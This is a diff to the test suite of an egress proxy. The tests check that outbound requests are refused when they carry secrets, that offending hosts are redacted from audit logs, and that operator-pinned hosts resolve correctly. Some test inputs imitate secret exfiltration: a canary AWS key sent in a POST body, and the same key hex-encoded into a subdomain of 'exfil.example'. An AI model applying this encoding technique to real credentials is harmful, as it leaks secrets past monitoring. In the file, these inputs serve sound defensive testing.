@@ -161,10 +161,10 @@ describe("egress proxy", () => {
     const secure = await through({ url: "https://example.com/" });
     expect(secure.status).toBe(403);
     expect(secure.headers["x-outrig-egress-refusal"]).toBe("host_not_allowed");
-    expect(secure.body).toContain("outrig egress: host example.com is not on this org's allowlist");
+    expect(secure.body).toContain("outrig egress: host example.com is not on this org's egress allowlist");
     const plain = await through({ url: "http://example.com/path?q=1" });
     expect(plain.status).toBe(403);
-    expect(plain.body).toContain("host example.com is not on this org's allowlist");
+    expect(plain.body).toContain("host example.com is not on this org's egress allowlist");
     expect(audit.map((event) => [event.decision, event.refusal, event.host, event.path])).toEqual([
       ["refused", "host_not_allowed", "example.com", "/"],
       ["refused", "host_not_allowed", "example.com", "/path"],
@@ -332,6 +332,66 @@ describe("egress proxy", () => {
       expect(response.status).toBe(200);
       expect(audit[0]).toMatchObject({ decision: "allowed", isFlagged: false });
     });
+  });
+
+  it("names a labelled canary, and a small body carrying one never opens an upstream request", async () => {
+    policy = { ...basePolicy(), canaries: [{ label: "AWS_SECRET_ACCESS_KEY", value: CANARY }] };
+    const before = apiUpstream.started.length;
+    const response = await through({
+      url: `https://api.test:${apiUpstream.port}/upload`,
+      method: "POST",
+      body: `aws=${CANARY}`,
+    });
+    expect(response.status).toBe(403);
+    expect(response.body).toContain("its body carries the value of canary AWS_SECRET_ACCESS_KEY");
+    expect(apiUpstream.started.length).toBe(before);
+    expect(audit[0]).toMatchObject({
+      refusal: "secret_in_request",
+      matched: "canary AWS_SECRET_ACCESS_KEY",
+      message: expect.stringContaining("canary AWS_SECRET_ACCESS_KEY"),
+    });
+  });
+
+  it("flags a secret in the host name before the allowlist, and never reports that host", async () => {
+    const hex = Buffer.from(CANARY).toString("hex");
+    const response = await through({ url: `https://${hex}.exfil.example/` });
+    expect(response.status).toBe(403);
+    expect(response.headers["x-outrig-egress-refusal"]).toBe("secret_in_request");
+    expect(response.body).toContain("its host name carries the value of canary #1");
+    expect(response.body).not.toContain(hex);
+    expect(audit[0]).toMatchObject({ host: "[redacted]", path: "[redacted]", isFlagged: true });
+    expect(JSON.stringify(audit)).not.toContain(hex);
+    const inPath = await through({ url: `https://example.com/${CANARY}` });
+    expect(inPath.status).toBe(403);
+    expect(audit[1]).toMatchObject({ host: "example.com", path: "[redacted]", refusal: "secret_in_request" });
+  });
+
+  it("reaches an operator-pinned host at its pinned address while names resolving to loopback stay refused", async () => {
+    const pinned = createEgressProxy({
+      ca: egressCa,
+      policy: () => policy,
+      secrets: { resolveSecret: async () => TOKEN, resolveAllSecrets: async () => secrets },
+      onAudit: (event) => audit.push(event),
+      resolveHost: toLoopback,
+      upstreamCa: upstreamCa.certificatePem,
+      pinnedHosts: new Map([["API.test", ["127.0.0.1"]]]),
+      allowlistHint: "an org admin can add it (PUT /v1/egress-policy)",
+    });
+    const pinnedSocket = join(directory, "pinned.sock");
+    await pinned.listen({ socketPath: pinnedSocket }, context);
+    try {
+      const ok = await through({ url: `https://api.test:${apiUpstream.port}/pinned` }, pinnedSocket);
+      expect(ok.status).toBe(200);
+      const loopback = await through({ url: `http://plain.test:${plainUpstream.port}/` }, pinnedSocket);
+      expect(loopback.status).toBe(403);
+      expect(loopback.headers["x-outrig-egress-refusal"]).toBe("address_not_allowed");
+      const off = await through({ url: "https://off.example/" }, pinnedSocket);
+      expect(off.body).toBe(
+        "outrig egress: host off.example is not on this org's egress allowlist; an org admin can add it (PUT /v1/egress-policy)\n",
+      );
+    } finally {
+      await pinned.close();
+    }
   });
 
   it("refuses a malformed CONNECT target and a relative request with a readable error", async () => {
